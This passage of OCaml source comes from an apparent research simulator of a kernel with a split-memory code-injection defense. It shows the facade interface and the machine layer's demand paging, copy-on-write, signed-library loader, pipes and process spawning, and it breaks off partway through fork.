(** Kernel access to an unmapped/forbidden guest address. *)

type stop_reason =
  | All_exited  (** every process is a zombie *)
  | All_blocked  (** deadlock or waiting for external input (e.g. stdin) *)
  | Fuel_exhausted

type t

val create :
  ?frames:int ->
  ?page_size:int ->
  ?quantum:int ->
  ?cost_params:Hw.Cost.params ->
  ?itlb_capacity:int ->
  ?dtlb_capacity:int ->
  ?tlb_policy:Hw.Tlb.policy ->
  ?stack_jitter_pages:int ->
  ?verify_signatures:bool ->
  ?seed:int ->
  ?tlb_fill:Hw.Mmu.fill_mode ->
  ?caches:bool ->
  ?obs:Obs.t ->
  ?bbcache:bool ->
  ?share_images:bool ->
  protection:Protection.t ->
  unit ->
  t
(** [stack_jitter_pages] models the slight stack-placement randomization of
    Linux 2.6 that made the Samba exploit brute-force (paper §6.1.2).
    [tlb_fill] selects the x86 hardware page walker (default) or the
    SPARC-style software-managed TLB of §4.7. [tlb_policy] (default
    {!Hw.Tlb.Fifo}) selects the TLB replacement policy — the profiler's
    eviction experiments sweep it. [obs] (default {!Obs.null})
    turns on cycle-stamped tracing and metrics across the whole machine:
    the clock is wired to the cost model, the MMU and event log emit into
    it, and a snapshot hook imports TLB/cache/cost statistics as gauges.
    [bbcache] (default {!Machine.bbcache_default}) enables the decoded
    basic-block cache — a pure dispatch optimization with no observable
    effect beyond wall-clock speed. *)

val ctx : t -> Protection.ctx
val log : t -> Event_log.t
val obs : t -> Obs.t
val syscall_name : int -> string
val cost : t -> Hw.Cost.t
val mmu : t -> Hw.Mmu.t

val env : t -> Hw.Exec_env.t
(** The CPU dispatch hooks record (see {!Hw.Exec_env}) — where the
    profiler installs its sampling hook. *)

val bbcache : t -> Hw.Bbcache.t option
val phys : t -> Hw.Phys.t
val alloc : t -> Frame_alloc.t
val page_size : t -> int
val proc : t -> int -> Proc.t option
val procs : t -> Proc.t list
val protection : t -> Protection.t
val children_of : t -> Proc.t -> Proc.t list

val register_library : t -> string -> Isa.Asm.program -> int
(** Install a dynamic library (paper §4.3): assembled at a prelink base,
    signed, loadable by guests via the [uselib] syscall (137), which
    validates the signature and maps it (split per policy on demand).
    Returns the base address. *)

val tamper_library : t -> string -> unit
(** Corrupt a registered library's code without re-signing — the loader
    must then reject it. *)

val spawn : t -> ?eager:bool -> ?protected:bool -> ?name:string -> Image.t -> Proc.t
(** Load an image into a fresh process. [eager] maps (and, under split
    memory, duplicates) every image page at load time — the paper's
    prototype behaviour; the default is demand paging, the optimization
    §5.1 proposes. [protected:false] gives the process a plain von Neumann
    view (no splitting, no NX marking) — the per-process backwards
    compatibility of §3.3.1, needed e.g. for self-modifying programs.
    @raise Rejected_image on signature failure. *)

val feed_stdin : t -> Proc.t -> string -> int
(** Driver-side injection into the process console (the "network"). *)

val close_stdin : t -> Proc.t -> unit
val read_stdout : t -> Proc.t -> string

val connect : ?capacity:int -> t -> Proc.t -> Proc.t -> unit
(** Cross-wire two processes' fds 0/1 with a fresh pipe pair
    (client/server workloads). *)

val run : ?fuel:int -> t -> stop_reason
(** Schedule until exit, deadlock, or fuel exhaustion. Exploit drivers
    alternate [run] / [feed_stdin]. *)

val kill : t -> Proc.t -> Proc.signal -> unit
val terminate : t -> Proc.t -> Proc.exit_status -> unit

val copy_from_user : t -> Proc.t -> int -> int -> string
(** Kernel read of guest memory (reaches split pages' data copies);
    demand-maps as needed. @raise Efault. *)

val copy_to_user : t -> Proc.t -> int -> string -> unit
val read_cstring : t -> Proc.t -> int -> max:int -> string
val load_pagetables : t -> Proc.t -> unit
val map_demand_page : t -> Proc.t -> Aspace.region -> int -> Pte.t
val cow_service : t -> Pte.t -> unit

(** {2 Snapshot support}

    Raw state exposure consumed by [lib/snap]. These accessors export and
    replace whole-machine bookkeeping; they are not meant for normal kernel
    clients. *)

val quantum : t -> int

val set_sched_hook : t -> (unit -> unit) option -> unit
(** Install a callback invoked at every scheduler-loop boundary (after
    {!wake}, before dispatch) — the only points where the machine state is
    quiescent and a periodic checkpoint can be taken safely. *)

type sched_state = Sched.state = {
  s_runq : int list;  (** run queue, front first *)
  s_rng : Random.State.t;  (** deep copy of the kernel PRNG *)
  s_last_running : int option;
  s_next_pid : int;
  s_next_tick : int;
  s_ticks : int;
  s_lib_cursor : int;
}

val sched_state : t -> sched_state
(** Deep copy of scheduler/loader bookkeeping. *)

val restore_sched_state : t -> sched_state -> unit

type library = Machine.library = { lib_base : int; code : string; lib_signature : int }

val libraries : t -> (string * library) list
(** Registered dynamic libraries, sorted by name. *)

val restore_libraries : t -> (string * library) list -> unit

val replace_procs : t -> Proc.t list -> unit
(** Replace the whole process table (snapshot restore). Does not touch the
    run queue — pair with {!restore_sched_state}. *)

(** {2 Layer access} *)

val machine : t -> Machine.t
(** The machine behind the facade (the identity — [t] {e is} the machine).
    Hands the kernel's internal layers ({!Sched}, {!Trap}, {!Syscalls})
    and tools direct access to the state layer. *)

val set_syscall_tracer : t -> (Machine.syscall_trace -> unit) option -> unit
(** Install (or clear) the per-syscall tracer consulted by
    {!Syscalls.dispatch} — one {!Machine.syscall_trace} record per
    dispatched syscall. simctl's [--strace] is built on this. *)

val set_inject_hook : t -> (unit -> unit) option -> unit
(** Install the fault-injection callback fired at every scheduler-loop
    boundary, right after the sched hook (so a periodic checkpoint samples
    the pre-fault state). lib/inject's engine hangs off this. *)

val set_syscall_squeeze : t -> (Proc.t -> int -> bool) option -> unit
(** Install the transient-syscall-fault predicate: consulted with (process,
    syscall number) before each dispatch; returning [true] suppresses the
    dispatch and rewinds the guest so the syscall restarts (ERESTART
    discipline). *)

val set_switch_hook : t -> (Proc.t -> unit) option -> unit
(** Install the context-switch callback: fired from the scheduler whenever
    the running process {e changes} (not on every dispatch of the same
    process), with the incoming process. lib/prof attributes address
    samples to pids through this. *)

val last_running : t -> int option
(** Pid of the last process the scheduler switched to, if any — what a
    freshly installed switch hook must seed from (the hook only fires on
    change). *)
