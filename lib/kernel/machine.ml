(* The kernel's state layer: the machine record itself plus the memory and
   process services every other kernel layer builds on (demand paging, COW,
   kernel access to guest memory, loader, fork, teardown, consoles,
   libraries). Trap routing lives in [Trap], syscall bodies in [Syscalls],
   the run loop in [Sched]; [Os] composes them behind the stable facade. *)

exception Rejected_image of string
exception Efault

(* A runtime-loadable library: code assembled ("prelinked") at a fixed
   base shared by all processes, with its signature. *)
type library = { lib_base : int; code : string; lib_signature : int }

(* What the syscall layer reports to an installed tracer (simctl --strace):
   one record per dispatched syscall, after the handler ran. *)
type syscall_outcome = Returned of int | Blocked | Exited

type syscall_trace = {
  sys_number : int;
  sys_name : string;
  sys_pid : int;
  sys_args : int * int * int;  (* ebx, ecx, edx at entry *)
  sys_outcome : syscall_outcome;
  sys_cycles : int;  (* service cycles, entry to return *)
}

(* Pre-resolved metric instruments for the hot paths of the scheduler loop
   ([None] when observability is disabled, so the common case pays one
   match per event at most). *)
type hot = {
  h_retired : Obs.Metrics.counter;
  h_syscalls : Obs.Metrics.counter;
  h_faults : Obs.Metrics.counter;
  h_fault_cycles : Obs.Metrics.histogram;
  h_syscall_cycles : Obs.Metrics.histogram;
  h_faults_by_page : Obs.Metrics.labeled;
  h_faults_by_pid : Obs.Metrics.labeled;
  h_sys_by_name : Obs.Metrics.labeled;
  h_sys_by_pid : Obs.Metrics.labeled;
  h_traps_by_class : Obs.Metrics.labeled;
}

type t = {
  phys : Hw.Phys.t;
  alloc : Frame_alloc.t;
  mmu : Hw.Mmu.t;
  env : Hw.Exec_env.t;  (* the CPU dispatch hooks record, owned by the MMU *)
  bbcache : Hw.Bbcache.t option;  (* decoded-block cache; None = per-insn *)
  cost : Hw.Cost.t;
  log : Event_log.t;
  protection : Protection.t;
  procs : (int, Proc.t) Hashtbl.t;
  (* parent pid -> live child pids, ascending — keeps [children_of]
     O(children) instead of a full-table scan. Maintained by fork/reap,
     rebuilt wholesale by [replace_procs]. *)
  children_index : (int, int list) Hashtbl.t;
  (* Event-driven wakeups: pids whose blocking condition may have flipped
     since the last scheduler boundary. Pipes and the zombie transition
     push here (through [wakeup_sink], one shared closure attached to every
     pipe the machine owns); [Sched.wake] drains, rechecks and enqueues.
     May hold duplicates and stale/ready-anyway pids — the recheck filters,
     so a spurious entry is harmless. *)
  mutable pending_wakeups : int list;
  mutable wakeup_sink : int -> unit;
  (* Processes blocked on [Proc.Sleep], as (wake_cycle, pid) sorted
     ascending — the earliest deadline is the head. The scheduler pops
     expired entries onto [pending_wakeups] at every boundary and, when
     nothing is runnable, jumps the clock to the head's deadline
     (tickless idle). Entries can go stale (snapshot restore rebuilds the
     list; a recheck may re-insert); stale heads are dropped lazily. *)
  mutable sleepers : (int * int) list;
  (* Loader COW: share read-only image-backed frames across spawns of
     identical guests, keyed by content digest. Off by default so existing
     scenarios keep their exact frame trajectories; the 10k-process scale
     paths opt in. *)
  share_images : bool;
  (* memoized per-image verify/digest results, keyed by physical equality —
     spawn cost must not scale with image size *)
  mutable image_memo : (Image.t * (bool * (int * string) list)) list;
  libraries : (string, library) Hashtbl.t;
  mutable lib_cursor : int;
  runq : int Queue.t;
  mutable rng : Random.State.t;
  page_size : int;
  quantum : int;
  stack_jitter_pages : int;
  verify_signatures : bool;
  mutable last_running : int option;
  mutable next_pid : int;
  mutable next_tick : int;
  mutable ticks : int;
  obs : Obs.t;
  hot : hot option;
  scratch : Bytes.t;  (* page-sized staging buffer for demand paging *)
  mutable sched_hook : (unit -> unit) option;
  mutable syscall_tracer : (syscall_trace -> unit) option;
  (* fault-injection hooks (lib/inject): [inject_hook] fires at every
     scheduler-loop boundary right after [sched_hook] — the quiescent
     points where injecting is race-free. [syscall_squeeze] is consulted
     before each syscall dispatches; returning [true] makes the kernel
     restart the syscall instead (a transient internal error, ERESTART
     style). Per-machine fields, so fleets of machines inject
     independently. *)
  mutable inject_hook : (unit -> unit) option;
  mutable syscall_squeeze : (Proc.t -> int -> bool) option;
  (* profiling hook (lib/prof): fires in [Sched.switch_to] whenever the
     running process actually changes, with the incoming process — the
     scheduler boundary where address samples change owners. *)
  mutable switch_hook : (Proc.t -> unit) option;
}

(* Import the point-in-time hardware statistics as gauges, so a metrics
   snapshot carries the TLB/cache/cost view without double-counting on the
   hot paths (the hardware already maintains these). *)
let install_snapshot_hook obs mmu (cost : Hw.Cost.t) =
  Obs.add_snapshot_hook obs (fun () ->
      let reg = Obs.metrics obs in
      let set name v = Obs.Metrics.set_gauge (Obs.Metrics.gauge reg name) v in
      let seti name v = set name (float_of_int v) in
      let tlb prefix t =
        let s = Hw.Tlb.stats t in
        seti (prefix ^ ".hits") s.hits;
        seti (prefix ^ ".misses") s.misses;
        seti (prefix ^ ".flushes") s.flushes;
        seti (prefix ^ ".invalidations") s.invalidations;
        seti (prefix ^ ".evictions") s.evictions;
        (* no gauge at all before any lookup: a 0% rate would be a lie *)
        Option.iter (set (prefix ^ ".hit_rate")) (Hw.Tlb.hit_rate_opt t)
      in
      tlb "tlb.itlb" (Hw.Mmu.itlb mmu);
      tlb "tlb.dtlb" (Hw.Mmu.dtlb mmu);
      let cache prefix c =
        match c with
        | None -> ()
        | Some c ->
          let s = Hw.Cache.stats c in
          seti (prefix ^ ".hits") s.hits;
          seti (prefix ^ ".misses") s.misses;
          seti (prefix ^ ".flushes") s.flushes;
          seti (prefix ^ ".invalidations") s.invalidations;
          Option.iter (set (prefix ^ ".hit_rate")) (Hw.Cache.hit_rate_opt c)
      in
      cache "cache.icache" (Hw.Mmu.icache mmu);
      cache "cache.dcache" (Hw.Mmu.dcache mmu);
      seti "cost.cycles" cost.cycles;
      seti "cost.insns" cost.insns;
      seti "cost.traps" cost.traps;
      seti "cost.split_faults" cost.split_faults;
      seti "cost.single_steps" cost.single_steps;
      seti "cost.syscalls" cost.syscalls;
      seti "cost.ctx_switches" cost.ctx_switches)

(* Process-wide default for [create]'s [?bbcache]: the block cache is a
   pure dispatch optimization (provably equivalent, see DESIGN.md §13), so
   it is on by default and CLI tools flip this ref off for [--no-bbcache]
   differential runs before any machine is built. *)
let bbcache_default = ref true

let create ?(frames = 8192) ?(page_size = 4096) ?(quantum = 200) ?cost_params
    ?(itlb_capacity = 64) ?(dtlb_capacity = 64) ?tlb_policy
    ?(stack_jitter_pages = 0) ?(verify_signatures = true) ?(seed = 7)
    ?(tlb_fill = Hw.Mmu.Hardware_walk) ?(caches = false) ?(obs = Obs.null)
    ?bbcache ?(share_images = false) ~protection () =
  let phys = Hw.Phys.create ~page_size ~frames () in
  let cost = Hw.Cost.create ?params:cost_params () in
  let mmu = Hw.Mmu.create ~itlb_capacity ~dtlb_capacity ?tlb_policy ~phys ~cost () in
  Hw.Mmu.set_nx mmu protection.Protection.nx_hardware;
  Hw.Mmu.set_fill_mode mmu tlb_fill;
  if caches then Hw.Mmu.enable_caches mmu;
  let env = Hw.Mmu.env mmu in
  let bbcache =
    let enabled = match bbcache with Some b -> b | None -> !bbcache_default in
    if enabled then Some (Hw.Bbcache.create ~phys ()) else None
  in
  env.Hw.Exec_env.cache <- bbcache;
  let log = Event_log.create () in
  let hot =
    if not (Obs.enabled obs) then None
    else begin
      Obs.set_clock obs (fun () -> cost.cycles);
      Hw.Mmu.set_obs mmu obs;
      Event_log.attach_obs log obs;
      install_snapshot_hook obs mmu cost;
      Some
        {
          h_retired = Obs.counter obs "cpu.retired";
          h_syscalls = Obs.counter obs "os.syscalls";
          h_faults = Obs.counter obs "os.page_faults";
          h_fault_cycles = Obs.histogram obs "os.fault_service_cycles";
          h_syscall_cycles = Obs.histogram obs "os.syscall_service_cycles";
          h_faults_by_page = Obs.labeled obs "faults.by_page";
          h_faults_by_pid = Obs.labeled obs "faults.by_pid";
          h_sys_by_name = Obs.labeled obs "syscalls.by_name";
          h_sys_by_pid = Obs.labeled obs "syscalls.by_pid";
          h_traps_by_class = Obs.labeled obs "traps.by_class";
        }
    end
  in
  let t =
    {
      phys;
      alloc = Frame_alloc.create phys;
      mmu;
      env;
      bbcache;
      cost;
      log;
      protection;
      procs = Hashtbl.create 8;
      children_index = Hashtbl.create 8;
      pending_wakeups = [];
      wakeup_sink = ignore;
      sleepers = [];
      share_images;
      image_memo = [];
      libraries = Hashtbl.create 4;
    lib_cursor = Layout.lib_base + 0x100000;
    runq = Queue.create ();
    rng = Random.State.make [| seed |];
    page_size;
    quantum;
    stack_jitter_pages;
    verify_signatures;
    last_running = None;
    next_pid = 1;
    next_tick = (if cost.params.timer_tick_cycles > 0 then cost.params.timer_tick_cycles else max_int);
    ticks = 0;
    obs;
    hot;
    scratch = Bytes.create page_size;
      sched_hook = None;
      syscall_tracer = None;
      inject_hook = None;
      syscall_squeeze = None;
      switch_hook = None;
    }
  in
  t.wakeup_sink <- (fun pid -> t.pending_wakeups <- pid :: t.pending_wakeups);
  t

let ctx t : Protection.ctx =
  { phys = t.phys; alloc = t.alloc; mmu = t.mmu; cost = t.cost; log = t.log; obs = t.obs }

let proc t pid = Hashtbl.find_opt t.procs pid

(* pid-sorted so every traversal of the process table (wake scans, snapshot
   serialization, reporting) is deterministic regardless of hashtable
   history — a prerequisite for bit-exact replay after restore. *)
let procs t =
  Hashtbl.fold (fun _ p acc -> p :: acc) t.procs []
  |> List.sort (fun (a : Proc.t) (b : Proc.t) -> compare a.pid b.pid)

(* Install a dynamic library into the system registry, assembled at the
   next prelink base. Every process that uselib()s it gets the same
   mapping, like a prelinked shared object. *)
let register_library t name program =
  let base = t.lib_cursor in
  let assembled = Isa.Asm.assemble ~origin:base program in
  let code = assembled.Isa.Asm.code in
  let pages = (String.length code + t.page_size - 1) / t.page_size in
  t.lib_cursor <- base + ((pages + 1) * t.page_size);
  let lib_signature = Signature.sign [ name; string_of_int base; code ] in
  Hashtbl.replace t.libraries name { lib_base = base; code; lib_signature };
  base

(* Corrupt a registered library without re-signing (for tests/demos): what
   a trojaned plugin looks like to the loader. *)
let tamper_library t name =
  match Hashtbl.find_opt t.libraries name with
  | None -> ()
  | Some lib ->
    let bytes = Bytes.of_string lib.code in
    if Bytes.length bytes > 0 then
      Bytes.set bytes 0 (Char.chr (Char.code (Bytes.get bytes 0) lxor 0xFF));
    Hashtbl.replace t.libraries name { lib with code = Bytes.to_string bytes }

(* O(children), pid-ascending (the index lists are kept sorted; pids are
   never reused) — same order the seed's filtered [procs] scan produced. *)
let children_of t parent =
  match Hashtbl.find_opt t.children_index parent.Proc.pid with
  | None -> []
  | Some pids -> List.filter_map (fun pid -> Hashtbl.find_opt t.procs pid) pids

let enqueue t (p : Proc.t) =
  if not p.in_runq then begin
    p.in_runq <- true;
    Queue.add p.pid t.runq
  end

(* Remove a reaped zombie from the table and both sides of the children
   index (its own children become orphans, exactly as under the seed's
   scan — [children_of] was only ever asked about live processes). *)
let reap t (z : Proc.t) =
  Hashtbl.remove t.procs z.pid;
  (match z.parent with
  | Some pp -> (
    match Hashtbl.find_opt t.children_index pp with
    | Some cs -> Hashtbl.replace t.children_index pp (List.filter (fun c -> c <> z.pid) cs)
    | None -> ())
  | None -> ());
  Hashtbl.remove t.children_index z.pid

(* ------------------------------------------------------------------ *)
(* Wait queues                                                         *)
(* ------------------------------------------------------------------ *)

let attach_pipe t pipe = Pipe.set_wakeup pipe t.wakeup_sink

let attach_proc_pipes t (p : Proc.t) =
  attach_pipe t p.console_in;
  attach_pipe t p.console_out;
  Hashtbl.iter
    (fun _ obj ->
      match obj with
      | Proc.Read_end pipe | Proc.Write_end pipe -> attach_pipe t pipe)
    p.fds

(* Register a blocked process where its wake condition can actually flip:
   the pipe behind the fd for I/O waits; nowhere for child waits (the
   zombie transition in [terminate] notifies the parent directly). A
   mismatched or missing fd is ready by definition, so it goes straight to
   the pending list for the next boundary's recheck. *)
let register_wait t (p : Proc.t) = function
  | Proc.Read_fd fd -> (
    match Proc.fd p fd with
    | Some (Read_end pipe) -> Pipe.add_read_waiter pipe p.pid
    | Some (Write_end _) | None -> t.wakeup_sink p.pid)
  | Proc.Write_fd fd -> (
    match Proc.fd p fd with
    | Some (Write_end pipe) -> Pipe.add_write_waiter pipe p.pid
    | Some (Read_end _) | None -> t.wakeup_sink p.pid)
  | Proc.Child _ -> ()
  | Proc.Sleep until_ ->
    (* sorted (deadline, pid) insert keeps the earliest wake-up at the
       head; O(sleepers) per insert is fine at serving-benchmark
       concurrency, and the canonical order makes restore-time
       re-registration bit-identical to the live run *)
    let rec ins = function
      | [] -> [ (until_, p.pid) ]
      | ((u, q) as hd) :: tl ->
        if (u, q) <= (until_, p.pid) then hd :: ins tl
        else (until_, p.pid) :: hd :: tl
    in
    t.sleepers <- ins t.sleepers

(* Pop every sleeper whose deadline has passed onto the pending-wakeup
   list; the next boundary recheck makes them runnable (a [Proc.Sleep]
   condition is ready once the clock reaches its deadline). *)
let expire_sleepers t =
  let now = t.cost.Hw.Cost.cycles in
  let rec pop = function
    | (until_, pid) :: rest when until_ <= now ->
      t.wakeup_sink pid;
      pop rest
    | rest -> t.sleepers <- rest
  in
  pop t.sleepers

(* Earliest genuine sleeper deadline, dropping stale head entries (a pid
   that was restored, re-slept or already woke through another path) as a
   side effect. [None] means nobody is sleeping. *)
let rec earliest_sleeper t =
  match t.sleepers with
  | [] -> None
  | (until_, pid) :: rest -> (
    match proc t pid with
    | Some p when p.state = Proc.Blocked (Proc.Sleep until_) -> Some until_
    | _ ->
      t.sleepers <- rest;
      earliest_sleeper t)

(* ------------------------------------------------------------------ *)
(* Demand paging                                                       *)
(* ------------------------------------------------------------------ *)

let map_demand_page t (p : Proc.t) (region : Aspace.region) vpn =
  let finish frame =
    let pte = Pte.make ~vpn ~kind:region.kind ~frame ~writable:region.writable in
    if p.protected_ then t.protection.on_page_mapped (ctx t) p region pte;
    Aspace.set_pte p.aspace pte;
    pte
  in
  let fresh () =
    let frame = Frame_alloc.alloc t.alloc in
    Aspace.blit_page_content p.aspace region vpn t.scratch;
    Hw.Phys.blit_from_bytes t.phys ~frame t.scratch ~len:t.page_size;
    frame
  in
  match region.share with
  | Some digest when not region.writable -> (
    (* Loader COW: identical read-only image pages across spawns share one
       refcounted frame. A split defense still draws its private data copy
       from this frame in [on_page_mapped]; only the text stays shared. *)
    let key = digest ^ "/" ^ string_of_int vpn in
    match Frame_alloc.find_share t.alloc key with
    | Some frame ->
      Frame_alloc.incref t.alloc frame;
      finish frame
    | None ->
      let frame = fresh () in
      Frame_alloc.register_share t.alloc ~key ~frame;
      finish frame)
  | Some _ | None -> finish (fresh ())

(* ------------------------------------------------------------------ *)
(* Copy-on-write                                                       *)
(* ------------------------------------------------------------------ *)

let cow_service t (pte : Pte.t) =
  let old = Pte.data_frame pte in
  if Frame_alloc.refcount t.alloc old > 1 then begin
    let fresh = Frame_alloc.alloc t.alloc in
    Hw.Phys.copy_frame t.phys ~src:old ~dst:fresh;
    Frame_alloc.decref t.alloc old;
    match pte.split with
    | Some s ->
      s.data_frame <- fresh;
      if pte.frame = old then pte.frame <- fresh
    | None -> pte.frame <- fresh
  end;
  pte.writable <- true;
  pte.cow <- false;
  Hw.Mmu.invlpg t.mmu pte.vpn

(* ------------------------------------------------------------------ *)
(* Kernel access to guest memory (supervisor; reaches the data copy)   *)
(* ------------------------------------------------------------------ *)

let ensure_mapped_for_kernel t (p : Proc.t) vpn ~write =
  match Aspace.pte p.aspace vpn with
  | Some pte ->
    if write then begin
      if not pte.orig_writable then raise Efault;
      if pte.cow then cow_service t pte
    end;
    pte
  | None -> (
    match Aspace.find_region p.aspace vpn with
    | Some region ->
      if write && not region.writable then raise Efault;
      map_demand_page t p region vpn
    | None -> raise Efault)

let copy_from_user t p addr len =
  let buf = Buffer.create len in
  let remaining = ref len in
  let addr = ref addr in
  while !remaining > 0 do
    let vpn = !addr / t.page_size in
    let off = !addr mod t.page_size in
    let chunk = min !remaining (t.page_size - off) in
    let pte = ensure_mapped_for_kernel t p vpn ~write:false in
    let frame = Pte.data_frame pte in
    for i = 0 to chunk - 1 do
      Buffer.add_char buf (Char.chr (Hw.Phys.read8 t.phys ~frame ~off:(off + i)))
    done;
    remaining := !remaining - chunk;
    addr := !addr + chunk
  done;
  Buffer.contents buf

let copy_to_user t p addr s =
  let len = String.length s in
  let pos = ref 0 in
  while !pos < len do
    let a = addr + !pos in
    let vpn = a / t.page_size in
    let off = a mod t.page_size in
    let chunk = min (len - !pos) (t.page_size - off) in
    let pte = ensure_mapped_for_kernel t p vpn ~write:true in
    let frame = Pte.data_frame pte in
    for i = 0 to chunk - 1 do
      Hw.Phys.write8 t.phys ~frame ~off:(off + i) (Char.code s.[!pos + i])
    done;
    pos := !pos + chunk
  done

let read_cstring t p addr ~max =
  let buf = Buffer.create 16 in
  let rec go i =
    if i >= max then Buffer.contents buf
    else
      let vpn = (addr + i) / t.page_size in
      let off = (addr + i) mod t.page_size in
      let pte = ensure_mapped_for_kernel t p vpn ~write:false in
      let b = Hw.Phys.read8 t.phys ~frame:(Pte.data_frame pte) ~off in
      if b = 0 then Buffer.contents buf
      else begin
        Buffer.add_char buf (Char.chr b);
        go (i + 1)
      end
  in
  go 0

(* ------------------------------------------------------------------ *)
(* Process teardown                                                    *)
(* ------------------------------------------------------------------ *)

let free_aspace t (p : Proc.t) =
  Aspace.iter_ptes p.aspace (fun pte ->
      match pte.split with
      | Some s ->
        Frame_alloc.decref t.alloc s.code_frame;
        Frame_alloc.decref t.alloc s.data_frame
      | None -> Frame_alloc.decref t.alloc pte.frame);
  Hashtbl.reset p.aspace.ptes

let terminate t (p : Proc.t) status =
  free_aspace t p;
  Proc.close_all_fds p;
  p.state <- Zombie status;
  (* zombie transition: the only event that can flip a parent's Child wait
     condition, so notify it unconditionally — the wake recheck filters *)
  (match p.parent with Some pp -> t.wakeup_sink pp | None -> ());
  Event_log.add t.log (Process_exited { pid = p.pid; status = Proc.status_string status })

let kill t (p : Proc.t) signal =
  Hw.Cost.charge t.cost t.cost.params.fault_delivery;
  Event_log.add t.log (Signal_delivered { pid = p.pid; signal = Proc.signal_name signal });
  terminate t p (Proc.Killed signal)

(* Graceful degradation for allocator exhaustion reaching a trap or syscall
   boundary: contain the failure by OOM-killing the faulting process (and
   saying so in the log) instead of crashing the whole machine. *)
let oom_kill t (p : Proc.t) =
  Event_log.add t.log (Fault_detected { pid = p.pid; kind = "oom"; action = "kill" });
  if Obs.enabled t.obs then Obs.count t.obs "inject.oom_kills";
  kill t p Proc.Sigkill

(* ------------------------------------------------------------------ *)
(* Loader                                                              *)
(* ------------------------------------------------------------------ *)

(* Share keys are content digests of a segment as serialized in region
   sources (base + bytes) — not of the whole image — so a snapshot restore
   can re-derive them from the regions alone ([rebuild_shares]). *)
let share_key ~base ~bytes =
  Digest.to_hex (Digest.string (string_of_int base ^ ":" ^ bytes))

(* Per-image verify result and per-segment share keys, memoized by
   physical equality so a 10k-copy spawn loop pays the O(image) walks
   once. The memo is capped — benches build images once and spawn many
   times. *)
let image_memo t (image : Image.t) =
  match List.find_opt (fun (i, _) -> i == image) t.image_memo with
  | Some (_, entry) -> entry
  | None ->
    let verified = (not t.verify_signatures) || Image.verify image in
    let seg_keys =
      List.filter_map
        (fun (s : Image.segment) ->
          if s.writable then None
          else Some (s.base, share_key ~base:s.base ~bytes:s.bytes))
        image.segments
    in
    let entry = (verified, seg_keys) in
    t.image_memo <- (image, entry) :: List.filteri (fun i _ -> i < 15) t.image_memo;
    entry

let region_of_segment t ?share (seg : Image.segment) : Aspace.region =
  let lo = seg.base / t.page_size in
  let hi = (seg.base + String.length seg.bytes + t.page_size - 1) / t.page_size in
  let kind, execable =
    match seg.kind with
    | Image.Code -> (Pte.Code, true)
    | Image.Rodata -> (Pte.Rodata, false)
    | Image.Data -> (Pte.Data, false)
    | Image.Mixed -> (Pte.Mixed, true)
    | Image.Lib -> (Pte.Lib, true)
  in
  {
    lo;
    hi;
    kind;
    writable = seg.writable;
    execable;
    source = Image_bytes { base = seg.base; bytes = seg.bytes };
    share = (if seg.writable then None else share);
  }

let spawn t ?(eager = false) ?(protected = true) ?name (image : Image.t) =
  let verified, seg_keys = image_memo t image in
  if not verified then begin
    Event_log.add t.log (Library_rejected { name = image.name });
    raise (Rejected_image image.name)
  end;
  let pid = t.next_pid in
  t.next_pid <- pid + 1;
  let name = Option.value name ~default:image.name in
  let aspace = Aspace.create ~page_size:t.page_size in
  List.iter
    (fun (seg : Image.segment) ->
      let share = if t.share_images then List.assoc_opt seg.base seg_keys else None in
      Aspace.add_region aspace (region_of_segment t ?share seg))
    image.segments;
  if image.bss_size > 0 then
    Aspace.add_region aspace
      {
        lo = Layout.bss_base / t.page_size;
        hi = (Layout.bss_base + image.bss_size + t.page_size - 1) / t.page_size;
        kind = Pte.Bss;
        writable = true;
        execable = false;
        source = Zero;
        share = None;
      };
  Aspace.add_region aspace
    {
      lo = Layout.heap_base / t.page_size;
      hi = Layout.heap_limit / t.page_size;
      kind = Pte.Heap;
      writable = true;
      execable = false;
      source = Zero;
      share = None;
    };
  Aspace.add_region aspace
    {
      lo = (Layout.stack_top - Layout.stack_max_bytes) / t.page_size;
      hi = Layout.stack_top / t.page_size;
      kind = Pte.Stack;
      writable = true;
      execable = false;
      source = Zero;
      share = None;
    };
  let p = Proc.create ~pid ~name ~aspace in
  attach_proc_pipes t p;
  p.protected_ <- protected;
  p.regs.eip <- image.entry;
  let jitter =
    if t.stack_jitter_pages > 0 then
      Random.State.int t.rng t.stack_jitter_pages * t.page_size
    else 0
  in
  Hw.Cpu.set p.regs Isa.Reg.ESP (Layout.initial_esp - jitter);
  if eager then
    List.iter
      (fun (r : Aspace.region) ->
        match r.source with
        | Image_bytes _ ->
          for vpn = r.lo to r.hi - 1 do
            ignore (map_demand_page t p r vpn)
          done
        | Zero -> ())
      (Aspace.regions aspace);
  Hashtbl.replace t.procs pid p;
  enqueue t p;
  p

(* ------------------------------------------------------------------ *)
(* Console / wiring                                                    *)
(* ------------------------------------------------------------------ *)

let feed_stdin _t (p : Proc.t) s = Pipe.write p.console_in s
let close_stdin _t (p : Proc.t) = Pipe.close_writer p.console_in
let read_stdout _t (p : Proc.t) = Pipe.drain p.console_out

let connect ?capacity t (a : Proc.t) (b : Proc.t) =
  let ab = Pipe.create ?capacity ~name:(Fmt.str "%s->%s" a.name b.name) () in
  let ba = Pipe.create ?capacity ~name:(Fmt.str "%s->%s" b.name a.name) () in
  attach_pipe t ab;
  attach_pipe t ba;
  ignore (Proc.close_fd a 1);
  ignore (Proc.close_fd b 0);
  ignore (Proc.close_fd b 1);
  ignore (Proc.close_fd a 0);
  Proc.replace_fd a 1 (Write_end ab);
  Proc.replace_fd b 0 (Read_end ab);
  Proc.replace_fd b 1 (Write_end ba);
  Proc.replace_fd a 0 (Read_end ba);
  (* either endpoint may be blocked on the fds just rewired — re-register
     against the new pipes at the next boundary *)
  t.wakeup_sink a.pid;
  t.wakeup_sink b.pid

(* ------------------------------------------------------------------ *)
(* Fork                                                                *)
(* ------------------------------------------------------------------ *)

let clone_pte t (pte : Pte.t) : Pte.t =
  let split =
    Option.map
      (fun (s : Pte.split) ->
        Frame_alloc.incref t.alloc s.code_frame;
        Frame_alloc.incref t.alloc s.data_frame;
        { s with code_frame = s.code_frame })
      pte.split
  in
  if split = None then Frame_alloc.incref t.alloc pte.frame;
  {
    pte with
    split;
    frame = pte.frame;
  }

let do_fork t (parent : Proc.t) =
  Hw.Cost.charge t.cost
    (t.cost.params.fork_base
    + (t.cost.params.fork_per_page * Aspace.mapped_count parent.aspace));
  let pid = t.next_pid in
  t.next_pid <- pid + 1;
  let aspace = Aspace.create ~page_size:t.page_size in
  aspace.brk <- parent.aspace.brk;
  aspace.mmap_cursor <- parent.aspace.mmap_cursor;
  aspace.regions <-
    List.map (fun (r : Aspace.region) -> { r with hi = r.hi }) parent.aspace.regions;
  Aspace.iter_ptes parent.aspace (fun pte ->
